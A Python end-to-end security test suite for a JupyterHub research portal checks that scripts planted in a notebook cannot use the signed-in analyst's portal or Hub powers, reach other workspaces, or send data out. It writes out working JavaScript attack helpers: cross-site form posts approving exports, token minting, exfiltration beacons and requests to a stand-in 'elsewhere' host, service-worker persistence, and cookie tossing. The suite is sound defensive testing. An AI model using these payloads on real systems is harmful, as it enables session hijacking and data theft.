"""Script from a workspace tries to use its person's other powers (TRAPS C12): it runs, and it gets nothing.

Ana is at work in her workspace and signed in to the portal, in the same browser; for these tests she is a reviewer too
and has a second workspace. The script comes as the output of a saved notebook, as a colleague would plant it. Every
attempt is made twice: as it is, and in a browser that ignores the page's own policy, so that what portal and Hub
refuse by themselves does not hide behind it.
"""

import asyncio
import json
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack, suppress
from dataclasses import dataclass, field
from typing import Any

import nbformat
import pytest
import pytest_asyncio
from playwright.async_api import Browser, Page
from playwright.async_api import TimeoutError as PlaywrightTimeout

from hub_extensions.clients.person import API, PORTAL, WorkbenchClient
from hub_extensions.demo.cast import ADMINISTRATOR, ANALYST, OTHER_ANALYST
from hub_extensions.demo.scenery import OTHER_PROJECT, PROJECT, day, once
from tests.end_to_end.browser import Visitor, visitor
from tests.end_to_end.world import World, project_folder

pytestmark = pytest.mark.asyncio(loop_scope="session")

SECOND = "second-projet"
TABLE = "exports/par-age.csv"
NOTEBOOK = "projet/resultats.ipynb"

#: Prepares the attempts; each gives "refused", or what it got. ``F`` are the facts of this installation.
TOOLS = """
const F = FACTS;
const got = (what) => "got: " + String(what).slice(0, 200);
const patience = (promise, ms = 4000) =>
  Promise.race([promise, new Promise((done) => setTimeout(() => done("refused"), ms))]);
const read = (url, options = {}) =>
  fetch(url, {credentials: "include", ...options}).then(async (r) => got(r.status + await r.text()), () => "refused");
const blind = (url, options = {}) =>
  fetch(url, {credentials: "include", mode: "no-cors", ...options}).then(() => "sent", () => "refused");
const form = (url, fields) => {
  const target = document.createElement("iframe");
  target.name = "t" + Math.random();
  const sent = Object.assign(document.createElement("form"), {method: "POST", action: url, target: target.name});
  for (const [name, value] of Object.entries(fields)) {
    sent.append(Object.assign(document.createElement("input"), {name, value}));
  }
  document.body.append(target, sent);
  sent.submit();
  return new Promise((done) => setTimeout(() => done("sent"), 1000));
};
const frame = (url) => new Promise((done) => {
  const element = document.createElement("iframe");
  element.onload = () => {
    try { done(element.contentDocument.body.innerText ? got(element.contentDocument.body.innerText) : "refused"); }
    catch (error) { done("refused"); }
  };
  element.src = url;
  document.body.append(element);
});
const picture = (url) => new Promise((done) => {
  const element = new Image();
  element.onload = () => done(got("a picture"));
  element.onerror = () => done("refused");
  element.src = url;
});
const socket = (url) => new Promise((done) => {
  try {
    const opened = new WebSocket(url);
    opened.onopen = () => done(got("a connection"));
    opened.onerror = () => done("refused");
  } catch (error) { done("refused"); }
});
const drive = (url) => new Promise((done) => {
  const other = window.open(url, "_blank");
  if (!other) { done("refused"); return; }
  setTimeout(() => {
    try { done(got(other.document.body.innerText)); } catch (error) { done("refused"); }
    try { other.close(); } catch (error) { /* it is not ours */ }
  }, 2500);
});
const script = (url) => new Promise((done) => {
  const element = document.createElement("script");
  element.onload = () => done(got("a script"));
  element.onerror = () => done("refused");
  element.src = url;
  document.body.append(element);
});
const json = {"Content-Type": "application/json"};
const post = (body, headers = json) => ({method: "POST", headers, body: JSON.stringify(body)});
"""

#: Lays a script beside those of JupyterLab.
LAID_BESIDE = """
from pathlib import Path
beside = Path("/tmp/jupyter/data/labextensions/own")
beside.mkdir(parents=True, exist_ok=True)
(beside / "stays.js").write_text("")
"""

#: What only portal and Hub have to refuse: these hold even where the page's own policy does not.
POWERS = """
"read the portal": () => read(F.portal),
"read the portal's API": () => read(F.api + "/projects"),
"read with a planted header": () => read(F.api + "/projects", {headers: {"X-XSRFToken": "x"}}),
"approve an export": () => read(F.api + "/exports/" + F.request + "/votes", post(F.ballot)),
"approve an export unseen": () => blind(F.api + "/exports/" + F.request + "/votes", post(F.ballot, {})),
"approve an export by a form": () => form(F.portal + "review/" + F.request, {act: "vote", _xsrf: "x", ...F.ballot}),
"stop a workspace": () => read(F.api + "/workspaces/" + F.second + "/stop", post({})),
"stop a workspace by a form": () => form(F.portal + "workspaces/" + F.second, {act: "stop", _xsrf: "x"}),
"start a server of the Hub": () => blind(F.hub + "api/users/" + F.person + "/servers/" + F.third, post({}, {})),
"make a token of the Hub": () => read(F.hub + "api/users/" + F.person + "/tokens", post({})),
"read the Hub's home": () => read(F.hub + "home"),
"read who is signed in": () => read(F.hub + "api/user"),
"embed the portal": () => frame(F.portal),
"embed the sign-in page": () => frame(F.hub + "login"),
"drive a window of the portal": () => drive(F.portal),
"drive a window of the Hub": () => drive(F.hub + "token"),
"run the portal's answer as a script": () => script(F.api + "/projects"),
"a connection to the Hub": () => socket(F.hub.replace("http", "ws") + "api/events"),
"""

#: What the page's own policy must refuse: the same origin's other workspace, and every other place.
PLACES = """
"read the other workspace": () => read(F.other + "api/contents"),
"run code in the other workspace": () => read(F.other + "api/kernels", post({name: "python3"})),
"embed the other workspace": () => frame(F.other + "lab"),
"drive a window of the other workspace": () => drive(F.other + "lab"),
"a picture from elsewhere": () => picture(F.elsewhere + "picture.png?secret"),
"a request to elsewhere": () => blind(F.elsewhere + "fetch?secret"),
"a beacon to elsewhere": async () => { navigator.sendBeacon(F.elsewhere + "beacon?secret", "secret"); return "sent"; },
"a script from elsewhere": () => script(F.elsewhere + "script.js?secret"),
"a form to elsewhere": () => form(F.elsewhere + "form?secret", {secret: "secret"}),
"a frame from elsewhere": () => frame(F.elsewhere + "frame?secret"),
"a connection to elsewhere": () => socket(F.elsewhere.replace("http", "ws") + "socket?secret"),
"a style from elsewhere": async () => {
  const style = document.createElement("style");
  style.textContent = `@import url("${F.elsewhere}style.css?secret")`;
  document.head.append(style);
  return "sent";
},
"a request from an inherited page": async () => {
  const element = document.createElement("iframe");
  element.srcdoc = `<script>fetch("${F.elsewhere}srcdoc?secret", {mode: "no-cors"})</` + "script>";
  document.body.append(element);
  return "sent";
},
"a script that stays in the browser": () =>
  navigator.serviceWorker.register(location.pathname.split("/lab/")[0] + "/lab/extensions/own/stays.js")
    .then(() => got("a service worker"), () => "refused"),
"a request from a worker": async () => {
  new Worker(URL.createObjectURL(new Blob([`fetch("${F.elsewhere}worker?secret", {mode: "no-cors"})`])));
  return "sent";
},
"""


@dataclass
class Elsewhere:
    """A server that is none of ours: it keeps the first line of everything that reaches it."""

    port: int = 0
    arrived: list[str] = field(default_factory=list)

    async def answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Note a request and let anybody read the answer."""
        self.arrived.append((await reader.readline()).decode(errors="replace"))
        writer.write(
            b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
        )
        await writer.drain()
        writer.close()


@dataclass
class Scene:
    """What stands ready: a browser, an export that waits for Ana's vote, two workspaces, and somewhere else."""

    world: World
    browser: Browser
    stack: AsyncExitStack
    ana: WorkbenchClient
    bruno: WorkbenchClient
    facts: dict[str, Any]
    elsewhere: Elsewhere
    #: Ana's cookies after she signed in.
    session: Any

    async def visitor(self, *, policy: bool) -> Visitor:
        """Return Ana, signed in, in a fresh browser that heeds pages' policies or not."""
        options = {"bypass_csp": not policy, "storage_state": self.session}
        return await self.stack.enter_async_context(visitor(self.world, self.browser, ANALYST.username, **options))

    async def attack(self, ana: Visitor, attempts: str) -> dict[str, str]:
        """Let Ana open a planted notebook and run its cell; return what each attempt of the script got."""
        await self.ana.put_file(
            PROJECT, NOTEBOOK, {"type": "notebook", "format": "json", "content": self.planted(attempts)}
        )
        page = ana.page
        # A layout of its own: Lab would open this notebook again for whoever comes next.
        await page.goto(f"{ana.lab(PROJECT)}/workspaces/attack/tree/{NOTEBOOK}")
        await page.locator('.jp-Notebook-ExecutionIndicator[data-status="idle"]').wait_for()
        opened = await page.evaluate("document.body.dataset.opened")
        assert opened is None, "a saved output ran before anybody trusted the notebook"
        await self.run_first_cell(page)
        return dict(json.loads(await page.evaluate("document.body.dataset.attempts")))

    async def run_first_cell(self, page: Page) -> None:
        """Run the cell; JupyterLab silently drops a run that comes before its kernel is ready, so ask again."""
        for patience_ms in (20_000, 40_000, 60_000):
            await page.locator(".jp-Notebook .jp-Cell .cm-content").first.click()
            await page.keyboard.press("Control+Enter")
            with suppress(PlaywrightTimeout):
                await page.wait_for_function("document.body.dataset.attempts !== undefined", timeout=patience_ms)
                return
        raise AssertionError("the cell never ran")

    def planted(self, attempts: str) -> dict[str, Any]:
        """Return a notebook: its saved output tries to run when it is opened, its cell when it is run."""
        script = (
            f"<script>(async () => {{ {TOOLS.replace('FACTS', json.dumps(self.facts))}"
            f"const attempts = {{{attempts}}};\n"
            "const made = Object.entries(attempts).map(async ([name, attempt]) => {\n"
            "  try { return [name, await patience(attempt())]; } catch (error) { return [name, 'refused']; }\n"
            "});\n"
            "const outcome = Object.fromEntries(await Promise.all(made));\n"
            "document.body.dataset.attempts = JSON.stringify(outcome); })()</script>"
        )
        opened = "document.body.dataset.opened = 1"
        html = f"<img src='x' onerror='{opened}'><script>{opened}</script>"
        saved = {"output_type": "display_data", "metadata": {}, "data": {"text/html": html}}
        cell = nbformat.v4.new_code_cell(
            f"{LAID_BESIDE}\nfrom IPython.display import HTML, display\ndisplay(HTML({script!r}))", outputs=[saved]
        )
        return nbformat.v4.new_notebook(
            cells=[cell], metadata={"kernelspec": {"name": "python3", "display_name": "Python 3"}}
        )

    async def standing(self) -> dict[str, Any]:
        """What the attempts would have changed."""
        request = await self.bruno.api("GET", f"/exports/{self.facts['request']}")
        second = await self.ana.api("GET", f"/workspaces/{SECOND}")
        return {"request": request["state"], "second workspace": second["state"]}


UNTOUCHED = {"request": "submitted", "second workspace": "running"}


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def scene(world: World, browser: Browser) -> AsyncIterator[Scene]:
    """Everything that the script would like to reach."""
    async with AsyncExitStack() as stack:
        claire, ana = await world.client(ADMINISTRATOR.username), await world.open(ANALYST.username, PROJECT)
        bruno = await world.client(OTHER_ANALYST.username)
        await claire.api("POST", "/admin/roles", {"username": ANALYST.username, "role": "reviewer"})
        await second_project(claire)
        await ana.enter_workspace(PROJECT)
        await ana.start_workspace(SECOND)
        request, file = await waiting_export(world, bruno)
        elsewhere = Elsewhere()
        server = await asyncio.start_server(elsewhere.answer, "127.0.0.1", 0)
        elsewhere.port = server.sockets[0].getsockname()[1]
        url = world.settings.public_url
        facts = {
            "portal": f"{url}{PORTAL}/",
            "api": url + API,
            "hub": f"{url}/hub/",
            "other": ana.server(SECOND),
            "elsewhere": f"http://elsewhere.localhost:{elsewhere.port}/",
            "person": ANALYST.username,
            "second": SECOND,
            "third": "third",
            "request": request,
            "ballot": {"file_id": file, "verdict": "approve"},
        }
        async with visitor(world, browser, ANALYST.username) as first:
            await first.arrive()
            for project in (PROJECT, SECOND):
                await first.page.goto(first.lab(project))
            session = await first.context.storage_state()
        yield Scene(world, browser, stack, ana, bruno, facts, elsewhere, session)
        server.close()
        await ana.stop_workspace(SECOND)
        await bruno.api("POST", f"/exports/{request}/withdraw", {})
        await claire.api("DELETE", "/admin/roles", {"username": ANALYST.username, "role": "reviewer"})


async def second_project(claire: WorkbenchClient) -> None:
    """Ana in a second project, without data."""
    facts = {"title": "Second projet", "purpose": "Essai", "starts_at": day(0), "ends_at": day(30)}
    await once(claire, "/admin/projects", {"slug": SECOND, **facts})
    member = {"username": ANALYST.username, "role": "analyst", "ends_at": day(20)}
    await once(claire, f"/admin/projects/{SECOND}/memberships", member)


async def waiting_export(world: World, bruno: WorkbenchClient) -> tuple[str, str]:
    """Bruno's request, submitted; returns its id and its file's."""
    table = project_folder(world.settings, OTHER_PROJECT) / TABLE
    table.parent.mkdir(parents=True, exist_ok=True)
    table.write_text("age,sejours,patients\n[0-50),1204,310\n[50-100),5319,1423\n")
    facts = {"title": "Séjours", "purpose": "Rapport", "kind": "table", "context": "Effectifs par âge"}
    made = await bruno.api("POST", "/exports", {"project": OTHER_PROJECT, "files": [TABLE], **facts})
    await bruno.api("POST", f"/exports/{made['id']}/submit", {})
    return made["id"], (await bruno.api("GET", f"/exports/{made['id']}"))["files"][0]["id"]


def not_refused(outcome: dict[str, str]) -> dict[str, str]:
    """What an attempt got; a request sent blindly is judged by what it changed."""
    return {name: what for name, what in outcome.items() if what not in {"refused", "sent"}}


async def test_script_of_a_workspace_signs_nobody_out(scene: Scene) -> None:
    ana = await scene.visitor(policy=False)
    away = '"by a frame": () => frame(F.hub + "logout"), "by a window": () => drive(F.hub + "logout"),'
    assert not_refused(await scene.attack(ana, away)) == {}
    await ana.go()
    assert (await ana.page.locator(".who").inner_text()).startswith(ANALYST.display_name)


@pytest.mark.parametrize("policy", [True, False], ids=["as it is", "without the page's policy"])
async def test_script_of_a_workspace_has_none_of_its_persons_powers(scene: Scene, policy: bool) -> None:
    ana = await scene.visitor(policy=policy)
    outcome = await scene.attack(ana, POWERS)
    assert len(outcome) == POWERS.count('": () =>')
    assert not_refused(outcome) == {}
    assert await scene.standing() == UNTOUCHED
    await ana.go()
    assert (await ana.page.locator(".who").inner_text()).startswith(ANALYST.display_name)


async def test_script_of_a_workspace_reaches_no_other_place(scene: Scene) -> None:
    ana = await scene.visitor(policy=True)
    outcome = await scene.attack(ana, PLACES)
    assert not_refused(outcome) == {}
    assert await scene.standing() == UNTOUCHED
    assert scene.elsewhere.arrived == []


async def test_the_other_place_would_have_been_reached(scene: Scene) -> None:
    """The control: without the page's policy, what was tried arrives; so it was the policy that held."""
    ana = await scene.visitor(policy=False)
    await scene.attack(ana, PLACES)
    arrived = " ".join(scene.elsewhere.arrived)
    for name in (
        "picture.png",
        "fetch",
        "beacon",
        "script.js",
        "form",
        "socket",
        "style.css",
        "srcdoc",
        "worker",
    ):
        assert f"/{name}?secret" in arrived, arrived
    scene.elsewhere.arrived.clear()


#: Cookies that say who somebody is, and where each is sent.
IDENTITY = {
    "service-bureau": f"{PORTAL}/",
    "jupyterhub-hub-login": "/hub/",
    "jupyterhub-session-id": "/",
    "_xsrf": f"{PORTAL}/",
}
TOSS = """([domain, cookies]) => {
  for (const [name, value, path] of cookies) {
    for (const each of [path, path + "api/v1/", path + "home", "/"]) {
      document.cookie = `${name}=${value}; Domain=${domain}; Path=${each}`;
    }
  }
  return document.cookie;
}"""


@pytest.mark.parametrize("signed_in", [True, False], ids=["signed in", "signed out"])
async def test_a_tossed_cookie_signs_nobody_in_as_another(scene: Scene, signed_in: bool) -> None:
    """A workspace may set cookies for the parent domain; Bruno's own, valid ones must not make Ana act as Bruno."""
    ana = await scene.visitor(policy=True)
    await ana.page.goto(ana.lab(PROJECT))
    if not signed_in:
        await ana.context.clear_cookies(domain=scene.world.settings.domain)
    tossed = [
        [prefix + name, value, path]
        for name, path in IDENTITY.items()
        for prefix in ("", "__Host-")
        if (value := scene.bruno.cookie(prefix + name, path))
    ]
    assert {name.removeprefix("__Host-") for name, _, _ in tossed} == set(IDENTITY)
    await ana.page.evaluate(TOSS, [scene.world.settings.domain, tossed])
    for path in (PORTAL + "/", PORTAL + "/exports", "/hub/home"):
        await ana.page.goto(scene.world.settings.public_url + path)
        assert OTHER_ANALYST.display_name not in await ana.page.content()
        assert f'"{OTHER_ANALYST.username}"' not in await ana.page.content()
